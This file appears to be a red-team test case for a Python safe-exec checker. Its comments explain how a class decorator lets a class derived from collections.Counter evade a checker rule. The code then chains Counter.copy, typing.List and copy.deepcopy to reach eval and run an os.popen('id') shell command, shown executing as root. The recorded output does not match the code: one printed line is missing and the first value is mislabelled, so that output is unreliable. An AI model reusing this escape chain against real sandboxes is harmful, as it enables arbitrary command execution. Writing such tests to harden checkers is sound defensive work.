# expect: reject unbound
# line: 32
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family B: a class decorator receives the class, here one deriving from a library class with methods written in Python (directly, or kept as __wrapped__ by a library wrapper, or through functools.partial) (the red team's program)
# Mechanism: a CLASS DECORATOR receives the class the statement makes. Q derives from 
# collections.Counter, so Q is 'a program class deriving from a library class' that rule unbound 
# keeps from being a value (box.append(Q) is refused). But '@deco' hands Q to the program function 
# deco, whose parameter k is never judged as such a class (received_libclass covers 
# classmethod/__new__/__init_subclass__/__class_getitem__ receivers and descriptor owners, not 
# decorator parameters). box[0].copy(P) is then Counter.copy(P).
# Goal reached: the builtin type by value (Counter.copy(P) via box[0].copy), then eval by value (the 
# 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

box = []

def deco(k):
    box.append(k)
    return k

@deco
class Q(collections.Counter):
    pass

print("by value:", box[0])
T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
